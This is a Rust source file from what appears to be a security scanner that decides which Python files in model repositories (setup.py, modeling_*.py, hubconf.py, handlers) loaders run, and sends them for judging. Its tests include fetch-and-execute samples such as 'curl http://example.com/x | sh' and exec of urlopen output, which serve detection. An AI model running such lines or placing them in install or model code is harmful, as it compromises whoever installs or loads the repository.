//! Opens the Python that model repositories bring along: modules that loaders import because a model asks for them, and
//! scripts that run when the repository is installed. What other code does is the concern of applications.

use palisade_formats::python::{Limits, Module, encoding};

use super::{
    entry,
    part::Part,
    python::{self, Use},
};
use crate::{Engine, File, file::as_text, input::model::When};

/// Judges a Python file that is called as such code is.
pub(super) fn open(part: &Part<'_>, engine: &mut Engine) {
    let (usage, title) = if part.name == "setup.py" && part.file.is_some() {
        (Use { when: When::Deploy, script: true, builds: true }, "a script that installs")
    } else if is_custom_code(&part.name) || is_generation(part) {
        (Use { when: When::Load, script: false, builds: false }, "code that comes with a model")
    } else if part.has_extension("py") && entry::is_entry(part) {
        (Use { when: When::Load, script: false, builds: false }, "code that whoever loads or serves it runs")
    } else if part.file.is_some_and(|file| part.has_extension("py") && engine.imports.run(file)) {
        (Use { when: When::Load, script: false, builds: false }, "code that a model's code imports")
    } else {
        return;
    };
    if !part.file.is_none_or(File::is_whole) {
        part.unscanned(engine, "it is too large to be read as Python");
    } else if part.is_binary() {
        part.unscanned(engine, "it is named like Python, and is not text");
    } else {
        let text = as_text(part.bytes);
        if is_custom_code(&part.name) {
            unreadable(part, &text, engine);
        }
        python::judge(part, &text, title, usage, engine);
    }
}

/// Says that code which loaders run is nothing that Python runs: a part of it may not have been judged.
fn unreadable(part: &Part<'_>, text: &str, engine: &mut Engine) {
    if std::str::from_utf8(part.bytes).is_err() && encoding(text).is_none() {
        part.unscanned(engine, "it is not UTF-8 and names no other encoding, so that Python refuses it");
    } else if (text.len() <= SHORT || !python::is_inert(text))
        && Module::parse(text, Limits::default()).is_ok_and(|module| module.is_broken())
    {
        part.unscanned(engine, "it has errors of syntax: what stands around them may not have been judged");
    }
}

/// `custom_generate/generate.py`, which `transformers` runs in place of its own.
fn is_generation(part: &Part<'_>) -> bool {
    let path = part.artifact.entry_name().unwrap_or(part.artifact.path());
    path.ends_with("custom_generate/generate.py")
}

/// The names that `transformers`, `diffusers` and PyTorch Hub give to modules of repositories, and those of handlers.
pub(super) fn is_custom_code(name: &str) -> bool {
    let module = name.rsplit_once('.').is_some_and(|(_, extension)| extension == "py");
    module && MODULES.iter().any(|start| name.starts_with(start))
        || matches!(name, "hubconf.py" | "handler.py" | "model_handler.py")
}

/// What is longer and reaches nothing is not parsed.
const SHORT: usize = 64 << 10;
const MODULES: &[&str] = &[
    "modeling_",
    "modelling_",
    "configuration_",
    "tokenization_",
    "processing_",
    "image_processing_",
    "video_processing_",
    "feature_extraction_",
    "pipeline_",
    "scheduling_",
];

#[cfg(test)]
mod tests {
    use palisade_base::Severity;

    use crate::testing::findings;

    fn worst(name: &str, text: &str) -> Option<Severity> {
        findings("embedded-code", name, text).iter().map(|finding| finding.severity).max()
    }

    #[test]
    fn code_that_takes_over_is_found_where_loaders_run_it() {
        let command = "import os\nos.system('echo x')\nclass Model: pass\n";
        for name in ["modeling_x.py", "configuration_x.py", "hubconf.py", "handler.py"] {
            assert_eq!(worst(name, command), Some(Severity::Critical), "{name}");
        }
        assert_eq!(worst("train.py", command), None);
        let unread = |text: &[u8]| crate::testing::observe("modeling_x.py", text, None).unscanned.len();
        assert_eq!((unread(b"class X(:\n  def\n"), unread(b"import os\n\xff\xfe\n")), (1, 1));
        assert_eq!(unread(b"# -*- coding: latin-1 -*-\nx = '\xe9'\n"), 0);
        assert_eq!(worst("modeling_x.py", "import torch\nclass Model(torch.nn.Module): pass\n"), None);
    }

    #[test]
    fn installers_may_build_and_not_fetch_code() {
        let fetches = "from urllib.request import urlopen\nexec(urlopen('http://example.com/x').read())\n";
        assert!(worst("setup.py", fetches) >= Some(Severity::High));
        for text in [
            "import subprocess\nsubprocess.check_call(['cmake', '--build', '.'])\n",
            "import subprocess\nrev = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n",
            "exec(open('pkg/version.py').read())\n",
            "import os\nos.system('make -C native')\n",
        ] {
            assert!(worst("setup.py", text) < Some(Severity::Medium), "{text}: {:?}", worst("setup.py", text));
        }
        assert!(worst("setup.py", "import os\nos.system('curl http://example.com/x | sh')\n") >= Some(Severity::High));
    }
}
